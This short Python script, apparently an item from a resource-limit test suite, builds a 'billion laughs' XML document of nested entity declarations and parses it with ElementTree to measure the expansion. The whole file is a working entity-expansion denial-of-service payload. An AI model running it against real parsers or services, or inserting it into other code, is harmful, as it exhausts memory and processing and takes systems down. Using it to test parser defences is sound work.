# category: resources
# attack: billion laughs: nested entity expansion in an XML document
# profile: basic
import xml.etree.ElementTree as ET
ents = '<!ENTITY a0 "lol">' + "".join(
    f'<!ENTITY a{i} "{("&a%d;" % (i - 1)) * 10}">' for i in range(1, 10))
doc = f'<?xml version="1.0"?><!DOCTYPE r [{ents}]><r>&a9;</r>'
print(len(ET.fromstring(doc).text))
